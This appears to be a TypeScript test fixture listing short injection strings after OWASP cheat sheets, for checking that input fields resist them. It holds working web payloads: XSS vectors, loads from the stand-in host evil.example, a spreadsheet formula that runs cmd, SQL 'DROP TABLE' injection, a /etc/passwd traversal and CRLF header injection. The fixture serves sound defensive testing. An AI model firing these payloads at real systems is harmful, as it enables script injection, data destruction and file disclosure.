// Attack texts after OWASP's cheat sheets: cross-site scripting (prevention, filter evasion, DOM), injection, CSV. They are
// short, so that many fit into one field. What runs sets `window.hit`; what loads is asked from evil.example. No text has
// control characters that every field refuses (contract/src/field.ts), and none changes when it is normalised.
export const attackTexts: readonly string[] = [
  // Script tags: in capitals, inside each other, after the end of an attribute or of another element.
  '<script>hit=1</script>',
  '<ScRiPt\n>hit=1</sCrIpT\t>',
  '<scr<script>ipt>hit=1</script>',
  '<script src=//evil.example/x></script>',
  '"><script>hit=1</script>',
  '</title><script>hit=1</script>',

  // Event handlers.
  '<img src=x onerror=hit=1>',
  '<IMG/SRC=x/OnErRoR\n=hit=1>',
  '<body onload=hit=1>',
  '<input autofocus onfocus=hit=1>',
  '<video><source onerror=hit=1>',
  '<details open ontoggle=hit=1>',
  'x" onmouseover=hit=1 y="',

  // Links and forms: javascript:, data:, vbscript:, written in ways that browsers read.
  '<a href=javascript:hit=1>tap</a>',
  '<a href="java\tscript:hit=1">tap</a>',
  '<a href="&#1;javascript:hit=1">tap</a>',
  '<a href=data:text/html,x>tap</a>',
  '<a href=vbscript:x>tap</a>',
  'javascript:hit=1//',
  '<form action=javascript:hit=1><button>',

  // Frames and other elements that load something.
  '<iframe src=javascript:hit=1></iframe>',
  '<iframe srcdoc="<script>top.hit=1</script>">',
  '<object data=//evil.example/x></object>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;//evil.example>',
  '<img srcset="//evil.example/x 2x">',

  // SVG and MathML.
  '<svg onload=hit=1>',
  '<svg><script>hit=1</script></svg>',
  '<svg><animate onbegin=hit=1>',
  '<svg><a xlink:href=javascript:hit=1>tap',
  '<math href=javascript:hit=1>tap</math>',

  // Mutation: what a parser writes again is read differently.
  '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
  '<svg></p><style><a id="</style><img src=x onerror=hit=1>">',

  // Encoded twice or for another place.
  '&lt;script&gt;hit=1&lt;/script&gt;',
  '%3Cscript%3Ehit=1%3C/script%3E',

  // Templates.
  "{{constructor.constructor('hit=1')()}}",
  '${hit=1}',
  '<%= hit=1 %>',

  // Style sheets.
  '<style>*{background:url(//evil.example/x)}</style>',
  '<b style="background:url(//evil.example/x)">',

  // Control characters of C1, direction marks, invisible characters, a line separator.
  '\u009B31mred\u0085',
  '\u202Egpj.exe\u202C',
  '\u2066a\u2069\u200Bb\u2028c',

  // Formulas of spreadsheets.
  '=HYPERLINK("//evil.example")',
  "@SUM(1)*cmd|' /C calc'!A0",
  '+1-1;=1+1',

  // SQL.
  "'; DROP TABLE member;--",
  "' OR '1'='1",

  // JSON.
  '","ok":true,"x":"',
  '{"__proto__":{"hit":1}}',

  // Markdown.
  '[tap](javascript:hit=1)',
  '![x](//evil.example/x)',

  // Paths and header lines.
  '../../../etc/passwd',
  'x\r\nSet-Cookie: hit=1',

  // A long word without a break, and combining marks.
  'W'.repeat(40),
  `x${'\u030D'.repeat(16)}`,

  // Comments and elements that are never closed. They would swallow what follows, so they are the last.
  '<![CDATA[',
  '<textarea>',
  '<plaintext>',
  '<!--',
]
